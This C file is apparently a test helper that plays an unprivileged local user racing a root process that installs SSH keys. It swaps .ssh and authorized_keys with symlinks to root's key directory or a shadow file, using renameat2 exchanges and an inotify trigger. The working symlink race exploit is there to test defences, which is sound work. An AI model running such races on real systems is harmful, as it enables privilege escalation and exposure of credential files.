/*
 * A user of the machine who tries to become root while root adds keys to his file: he exchanges names as fast as he
 * can. Built and started by local_user.ts.
 *
 *     local_user race HOME KEYS SHADOW     exchanges .ssh, the file and what is staged for it with links, until killed
 *     local_user wait HOME KEYS            does nothing until the file is read, then puts a link in the place of .ssh
 *
 * KEYS is the directory of root's keys, SHADOW a file that only root may read.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <linux/fs.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/syscall.h>
#include <unistd.h>

static void exchange(const char *one, const char *other)
{
    syscall(SYS_renameat2, AT_FDCWD, one, AT_FDCWD, other, RENAME_EXCHANGE);
}

/* A while of chance between the exchanges, so that they meet the other program everywhere. */
static void dawdle(void)
{
    for (volatile int left = rand() % 2000; left > 0; left--)
        ;
}

static void race(const char *one, const char *link, const char *target)
{
    if (fork() != 0)
        return;
    srand(getpid());
    for (;;) {
        unlink(link);
        symlink(target, link);
        for (int i = 0; i < 50; i++) {
            exchange(one, link);
            dawdle();
            exchange(one, link);
            dawdle();
        }
    }
}

static void wait_for_reader(const char *keys)
{
    char event[4096];
    int fd = inotify_init();
    inotify_add_watch(fd, ".ssh/authorized_keys", IN_OPEN | IN_ACCESS);
    printf("ready\n");
    fflush(stdout);
    if (read(fd, event, sizeof event) > 0 && rename(".ssh", ".ssh.old") == 0)
        symlink(keys, ".ssh");
    pause();
}

int main(int argc, char **argv)
{
    if (argc < 4 || chdir(argv[2]) || setgid(1000) || setuid(1000))
        return 1;
    if (!strcmp(argv[1], "wait")) {
        wait_for_reader(argv[3]);
        return 0;
    }
    race(".ssh", ".link-to-keys", argv[3]);
    race(".ssh/authorized_keys", ".ssh/link-to-shadow", argv[4]);
    race(".ssh/.authorized_keys.simple-init", ".ssh/link-to-staged", argv[4]);
    race("..ssh.simple-init", ".link-to-directory", argv[3]);
    printf("ready\n");
    fflush(stdout);
    pause();
    return 0;
}
